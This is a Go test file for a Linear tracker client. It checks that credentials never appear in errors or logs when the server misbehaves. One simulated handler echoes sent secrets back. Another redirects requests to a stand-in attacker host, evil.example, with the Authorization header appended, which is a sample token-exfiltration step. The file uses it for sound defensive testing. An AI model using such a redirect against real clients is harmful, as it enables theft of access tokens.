package linear

import (
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/alignd/alignd/internal/roadmap"
	"github.com/alignd/alignd/internal/sim/linearsim"
)

// Whatever goes wrong at whatever we do, as a key's holder or as an app, neither
// an error nor the log at its most talkative holds a secret, not even where the
// server echoes what it was sent.
func TestNoSecretIsTold(t *testing.T) {
	echo := func(rw http.ResponseWriter, r *http.Request) {
		_ = r.ParseForm()
		sent := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ") + " " + r.PostForm.Get("client_secret") + " " + r.PostForm.Encode()
		rw.Header().Set("X-Echo", sent)
		rw.WriteHeader(http.StatusBadRequest)
		fmt.Fprintf(rw, `{"error":%q,"error_description":%q,"errors":[{"message":%q,"extensions":{"code":%q,"userPresentableMessage":%q}}]}`, sent, sent, sent, sent, sent)
	}
	away := func(rw http.ResponseWriter, r *http.Request) {
		http.Redirect(rw, r, "https://evil.example/?key="+r.Header.Get("Authorization"), http.StatusTemporaryRedirect)
	}
	type trouble struct {
		fault linearsim.FaultKind
		say   func(http.ResponseWriter, *http.Request)
	}
	troubles := []trouble{{say: echo}, {say: away}}
	for _, k := range []linearsim.FaultKind{
		linearsim.EmptyObject, linearsim.NullData, linearsim.Truncated, linearsim.BadGateway, linearsim.Unavailable, linearsim.Malformed,
		linearsim.LockTimeout, linearsim.UsageLimited, linearsim.RateLimited, linearsim.Dropped,
	} {
		troubles = append(troubles, trouble{fault: k})
	}
	for _, oauth := range []bool{true, false} {
		for _, first := range []bool{true, false} { // from the first request on, or once all is known
			for _, tr := range troubles {
				w := newApp(t, linearsim.App{})
				w.AddKey(testToken, w.AddUser(linearsim.User{Name: "Bot", Active: true}).ID)
				tracker := w.tracker(t, func(o *Options) {
					if !oauth {
						o.Token, o.ClientID, o.ClientSecret = testToken, "", ""
					}
				})
				if !first {
					pullAll(t, tracker, "")
				}
				if tr.say != nil {
					w.say = func(rw http.ResponseWriter, r *http.Request) bool { tr.say(rw, r); return true }
				} else {
					w.AddFault(linearsim.Fault{Kind: tr.fault})
				}
				text := roadmap.Text{{roadmap.Say("x")}}
				mark := roadmap.Mark{Org: "acme", ID: roadmap.CommentID("acme", w.issue, 0)}
				for what, do := range map[string]func() error{
					"pull": func() error { _, err := tracker.Pull(t.Context(), ""); return err },
					"fetch": func() error {
						_, err := tracker.Fetch(t.Context(), []roadmap.Key{w.issue}, []roadmap.Ref{"eng:ENG-9"})
						return err
					},
					"census":   func() error { _, err := tracker.Census(t.Context(), ""); return err },
					"comments": func() error { _, err := tracker.Comments(t.Context(), []roadmap.Item{{Key: w.issue}}); return err },
					"check":    func() error { _, err := tracker.Check(t.Context()); return err },
					"label": func() error {
						return tracker.Apply(t.Context(), []roadmap.Change{labelChange(roadmap.AddLabel, w.issue.ID, "new")})[0].Err
					},
					"comment": func() error {
						return tracker.Apply(t.Context(), []roadmap.Change{{Key: w.issue, Kind: roadmap.KindIssue, Action: roadmap.CreateComment, Mark: mark, Text: text}})[0].Err
					},
					"edit": func() error {
						return tracker.Apply(t.Context(), []roadmap.Change{{Key: w.issue, Kind: roadmap.KindIssue, Action: roadmap.UpdateComment, Mark: mark, Text: text}})[0].Err
					},
				} {
					err := do()
					if err == nil && what != "check" {
						t.Errorf("oauth %t, fault %q: %s gives no error", oauth, tr.fault, what)
					}
					told := fmt.Sprintf("%v %+v %s", err, err, w.logs.String())
					for _, secret := range []string{"VERYSECRET", "lin_oauth_", "lin_api_"} {
						if strings.Contains(told, secret) {
							t.Fatalf("oauth %t, fault %q, %s: %s is told:\n%s", oauth, tr.fault, what, secret, told)
						}
					}
				}
			}
		}
	}
}
